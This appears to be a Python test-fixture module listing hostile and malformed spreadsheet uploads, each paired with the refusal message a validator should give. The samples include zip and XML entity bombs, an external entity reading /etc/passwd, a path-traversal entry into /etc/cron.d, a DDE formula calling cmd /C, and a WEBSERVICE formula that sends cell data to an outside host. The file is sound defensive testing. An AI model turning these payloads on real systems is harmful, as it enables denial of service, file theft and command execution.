"""Files that must be refused: what each is, its name, and the exact reason that is given."""

import io
import random
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from sheets.limits import MOST_WORKBOOK_BYTES
from tests.actions.samples import XML, flagged_as_encrypted, lying, misnamed, old_office, pdf, zipped
from tests.sheets.samples import book, cell, ods, outside_link, row, table, text_cell, xlsx

DAMAGED = "The file is damaged or is not what it seems"
SWOLLEN = "The file unpacks to more than 50 MB, or to more than 100 times its size."
TWO_IN_ONE_PLACE = "The file holds two parts in one place."
LINKED = "The file is linked to something outside it, which opening it would fetch."
OWN_TYPE = "A part of the file ({}) has a document type of its own."
LONG_ROW = "Line {} is part of a row of more than 1,000,000 characters."
NO_SPREADSHEET = "The file is {}, not a spreadsheet."
SHEET = "xl/worksheets/sheet1.xml"


@dataclass(frozen=True)
class Hostile:
    reason: str
    made: Callable[[], bytes]
    name: str = "plan.xlsx"


def noise(size: int) -> bytes:
    return random.Random(1).randbytes(size)  # noqa: S311  (it only has to be hard to compress)


def overlapping() -> bytes:
    """Two entries of the directory that share the same bytes."""
    made = bytearray(zipped({"a.bin": noise(2000), "b.bin": noise(2000)}, method=zipfile.ZIP_STORED))
    at = made.rindex(b"PK\x01\x02") + 42
    struct.pack_into("<I", made, at, 10)
    return bytes(made)


def twice_named() -> bytes:
    made = io.BytesIO(xlsx())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("XL/worksheets/SHEET1.xml", "<worksheet/>")
    return made.getvalue()


def many_parts() -> bytes:
    return xlsx(parts={f"xl/media/{number}.txt": "" for number in range(2001)})


def entities(name: str) -> bytes:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    return xlsx(parts={name: f"{XML}{bomb}<worksheet><sheetData><row><c><v>&b;</v></c></row></sheetData></worksheet>"})


def outside_entity() -> bytes:
    content = f'{XML}<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
    return ods(parts={"content.xml": content})


def endless_elements() -> bytes:
    """Two million empty cells, in a block that is too long to be packed as a repetition of itself."""
    numbers = random.Random(1)  # noqa: S311  (as above)
    block = "".join(f"<c s='{numbers.randrange(10**6)}'/>" for _ in range(4000))
    return xlsx(around="{}" + f"<x>{block * 520}</x>")


def deep() -> bytes:
    return xlsx(around="{}" + "<a>" * 300 + noise(2000).hex() + "</a>" * 300)


def text_in_pieces() -> bytes:
    """A text of 12 million characters, cut by comments so that no stretch of it is long."""
    return xlsx(text_cell("A1", "🎉" + (noise(40_000).hex() + "<!-- -->") * 150))


def names_without_end(element: str) -> bytes:
    """Names that a parser would remember, each one."""
    return xlsx(around="{}" + "".join(element.format(number * 7919) for number in range(300_000)))


def texts_pointed_to_often() -> bytes:
    """One text of 30,000 characters in every cell of many."""
    cells = "".join(f'<c r="{letter}{{0}}" t="s"><v>0</v></c>' for letter in "ABCDEFGHIJ")
    rows = "".join(f'<row r="{number}">{cells.format(number)}</row>' for number in range(1, 2001))
    return xlsx(rows, texts=f"<si><t>{noise(15_000).hex()}</t></si>")


def wide_rows() -> bytes:
    return xlsx("".join(f'<row r="{at}">{text_cell(f"IV{at}", "x")}</row>' for at in range(1, 19_000)))


def long_sheet() -> bytes:
    return book(lambda made: [made.active.append([number]) for number in range(20_001)])


HOSTILE = {
    # what is not a spreadsheet
    "nothing": Hostile("The file is empty.", lambda: b""),
    "too large": Hostile("The file is larger than 20 MB.", lambda: b"x" * (MOST_WORKBOOK_BYTES + 1), "plan.csv"),
    "a PDF": Hostile(NO_SPREADSHEET.format("a PDF"), pdf),
    "a web page": Hostile(NO_SPREADSHEET.format("a web page or XML"), lambda: b"<html><table></table></html>"),
    "XML": Hostile(NO_SPREADSHEET.format("a web page or XML"), lambda: XML.encode() + b"<Workbook/>"),
    "a zip": Hostile(NO_SPREADSHEET.format("an archive"), lambda: zipped({"plan.csv": "a,b"})),
    "a Word document": Hostile(
        NO_SPREADSHEET.format("a Word document"),
        lambda: xlsx(kind="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    ),
    "an old workbook": Hostile("The file is an old Excel workbook (.xls) or another old Office file.", old_office),
    "a protected workbook": Hostile("The file is protected by a password.", lambda: old_office(encrypted=True)),
    "a protected zip": Hostile("The file is protected by a password.", lambda: flagged_as_encrypted(xlsx())),
    "a protected ODS": Hostile(
        "The file is protected by a password.",
        lambda: ods(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"),
        "plan.ods",
    ),
    "a binary workbook": Hostile(
        "The file is a binary workbook (.xlsb).",
        lambda: xlsx(kind="application/vnd.ms-excel.sheet.binary.macroEnabled.main"),
    ),
    "a CSV named xlsx": Hostile("The file is named .xlsx but is a CSV file.", lambda: b"a,b\n1,2\n"),
    "a workbook named csv": Hostile("The file is named .csv but is an Excel workbook.", xlsx, "plan.csv"),
    "a name without an ending": Hostile(
        "The file's name has no ending, but it is an OpenDocument spreadsheet.", ods, "plan"
    ),
    "named as with macros": Hostile("Files that can hold macros (.xlsm) are not read.", xlsx, "plan.xlsm"),
    # archives that are more than they seem
    "cut off": Hostile("The file is cut off.", lambda: xlsx()[:-30]),
    "another file before it": Hostile("The file is a program or script, not a spreadsheet.", lambda: b"MZ" + xlsx()),
    "another file behind it": Hostile(
        "The file holds other data beside the document.", lambda: xlsx() + b"x" * 50 + zipped({})
    ),
    "a bomb": Hostile(SWOLLEN, lambda: xlsx(parts={"xl/media/a.png": bytes(60_000_000)})),
    "a small bomb": Hostile(SWOLLEN, lambda: xlsx(parts={SHEET: b" " * 5_000_000})),
    "a directory that lies": Hostile(f"{DAMAGED}.", lambda: lying(xlsx(parts={SHEET: b" " * 5_000_000}), says=900)),
    "a name that is no text": Hostile(f"{DAMAGED}.", lambda: misnamed(xlsx())),
    "overlapping entries": Hostile(TWO_IN_ONE_PLACE, overlapping),
    "one name twice": Hostile(TWO_IN_ONE_PLACE, twice_named),
    "too many parts": Hostile("The file has more than 2,000 parts.", many_parts),
    "a path that leads out": Hostile(
        "A part of the file has a name that leads out of it (“../../etc/cron.d/x”).",
        lambda: xlsx(parts={"../../etc/cron.d/x": "x"}),
    ),
    "an archive within": Hostile(
        "Another file is embedded in it (xl/media/image1.png).",
        lambda: xlsx(parts={"xl/media/image1.png": zipped({"a": "b"})}),
    ),
    "packed by LZMA": Hostile(
        "The file is packed in a way that documents are not.",
        lambda: zipped({"[Content_Types].xml": "<x/>"}, method=zipfile.ZIP_LZMA),
    ),
    # markup
    "an entity bomb": Hostile(OWN_TYPE.format(SHEET), lambda: entities(SHEET)),
    "an entity of a file": Hostile(
        OWN_TYPE.format("content.xml"), outside_entity, "plan.ods"
    ),
    "UTF-16 to hide in": Hostile(
        f"A part of the file ({SHEET}) is not in UTF-8.",
        lambda: xlsx(parts={SHEET: "<!DOCTYPE x [<!ENTITY a '1'>]><x/>".encode("utf-16")}),
    ),
    "millions of elements": Hostile(SWOLLEN, endless_elements),
    "elements in elements": Hostile(f"{DAMAGED}.", deep),
    "broken markup": Hostile(f"{DAMAGED}.", lambda: xlsx("<row><c></row>")),
    "a text of a million letters": Hostile(
        SWOLLEN, lambda: xlsx(text_cell("A1", noise(600_000).hex()), texts="")
    ),
    "a text in many pieces": Hostile(SWOLLEN, text_in_pieces),
    "no two names alike": Hostile(f"{DAMAGED}.", lambda: names_without_end("<n{}/>")),
    "no two attributes alike": Hostile(f"{DAMAGED}.", lambda: names_without_end("<n a{}=''/>")),
    # what runs or fetches
    "macros": Hostile("The file holds macros or ActiveX controls.", lambda: xlsx(parts={"xl/vbaProject.bin": b"x"})),
    "macros of OpenDocument": Hostile(
        "The file holds macros.", lambda: ods(parts={"Basic/Standard/Module1.xml": f"{XML}<x/>"}), "plan.ods"
    ),
    "an event of OpenDocument": Hostile(
        "The file holds macros.", lambda: ods(before="<office:scripts><script:event-listener/></office:scripts>"),
        "plan.ods",
    ),
    "another workbook": Hostile(
        "The file is linked to another workbook or to a source of data.",
        lambda: xlsx(parts={"xl/externalLinks/externalLink1.xml": f"{XML}<x/>"}),
    ),
    "a connection": Hostile(
        "The file is linked to another workbook or to a source of data.",
        lambda: xlsx(parts={"xl/connections.xml": f"{XML}<connections/>"}),
    ),
    "a picture from elsewhere": Hostile(
        LINKED,
        lambda: xlsx(parts={"xl/drawings/_rels/drawing1.xml.rels": outside_link("image", "https://example.com/a.png")}),
    ),
    "an embedded object": Hostile(
        "Another file is embedded in it (oleObject1.bin).",
        lambda: xlsx(parts={"xl/embeddings/oleObject1.bin": b"x"}),
    ),
    "ActiveX": Hostile(
        "The file holds macros or ActiveX controls.", lambda: xlsx(parts={"xl/activeX/activeX1.xml": f"{XML}<x/>"})
    ),
    "a formula that fetches": Hostile(
        "A formula fetches data from elsewhere (sheet Leads, cell A1).",
        lambda: xlsx('<row r="1"><c r="A1"><f>WEBSERVICE("https://example.com/"&amp;B1)</f><v>1</v></c></row>'),
    ),
    "a link of OpenDocument": Hostile(
        "The file is linked to another file or to a source of data.",
        lambda: ods(table('<table:table-source xlink:href="file:///etc/passwd"/>')),
        "plan.ods",
    ),
    "DDE": Hostile(
        "A formula fetches data from elsewhere (sheet Leads, cell A1).",
        lambda: ods(table(row(cell("x", formula='of:=DDE(&quot;cmd&quot;;&quot;/C&quot;)')))),
        "plan.ods",
    ),
    "an object of OpenDocument": Hostile(
        "Another file is embedded in it.",
        lambda: ods(table(row(cell("x").replace("<text:p>", "<drawing:object-ole/><text:p>")))),
        "plan.ods",
    ),
    # more than can be read
    "text at the end of the world": Hostile(
        "There is text beyond column 256 (sheet Leads, cell XFD1048576).",
        lambda: xlsx(f'<row r="1048576">{text_cell("XFD1048576", "x")}</row>'),
    ),
    "20,001 rows": Hostile("The sheet Leads has more than 20,000 rows.", long_sheet),
    "wide rows": Hostile("The file has more than 500,000 cells.", wide_rows),
    "one text in every cell": Hostile(
        "The file holds more than 20,000,000 characters of text.", texts_pointed_to_often
    ),
    "columns repeated": Hostile(
        "There is text beyond column 256 (sheet Leads, cell IW1).",
        lambda: ods(table(row(cell("x", number_columns_repeated="16384")))),
        "plan.ods",
    ),
    "rows repeated": Hostile(
        "The sheet Leads has more than 20,000 rows.",
        lambda: ods(table(row(cell("x"), number_rows_repeated="1048576"))),
        "plan.ods",
    ),
    "repeated for ever": Hostile(
        f"{DAMAGED}: it repeats columns without end.",
        lambda: ods(table(row(cell("x", number_columns_repeated="999999999999")))),
        "plan.ods",
    ),
    "spaces for ever": Hostile(
        f"{DAMAGED}: a cell holds endless spaces.",
        lambda: ods(table(row(cell('<text:s text:c="2000000000"/>')))),
        "plan.ods",
    ),
    "many sheets": Hostile(
        "The file has more than 100 sheets.", lambda: ods("".join(table(row(cell("x"))) for _ in range(101))),
        "plan.ods",
    ),
    "a control character": Hostile(
        "A cell holds a control character, U+0007 (sheet Leads, cell A1).",
        lambda: xlsx(f'<row r="1">{text_cell("A1", "_x0007_")}</row>'),
    ),
    "formulas never worked out": Hostile(
        "The file holds formulas without their results (sheet Leads, cells A3).",
        lambda: book(lambda made: made.active.append(["=1+1"])),
    ),
    # text that is none
    "NULs": Hostile("The file is not a spreadsheet.", lambda: b"a,b\n\x00\x00\n", "plan.csv"),
    "a control character in CSV": Hostile(
        "The text holds a control character, U+0007, on line 2.", lambda: b"a,b\n\x07,c\n", "plan.csv"
    ),
    "no known encoding": Hostile(
        "The text is in no encoding that is known here.", lambda: b"a,\x81\x8d\n", "plan.csv"
    ),
    "one enormous line": Hostile(
        LONG_ROW.format("1"), lambda: b"a," * 9_000_000, "plan.csv"
    ),
    "one enormous row": Hostile(
        LONG_ROW.format("250,001"), lambda: b'"\n","\n",' * 2_000_000, "plan.csv"
    ),
    "a quotation mark left open": Hostile(
        "In the row that begins on line 2 a quotation mark is not closed, "
        "or a cell holds more than 32,767 characters.",
        lambda: b'a,b\n1,"open\n' + b"2,3\n" * 5,
        "plan.csv",
    ),
    "a quotation mark in the middle": Hostile(
        "In the row that begins on line 2 there is text after a closing quotation mark.",
        lambda: b'a,b\n1,"open" the door\n',
        "plan.csv",
    ),
}  # fmt: skip
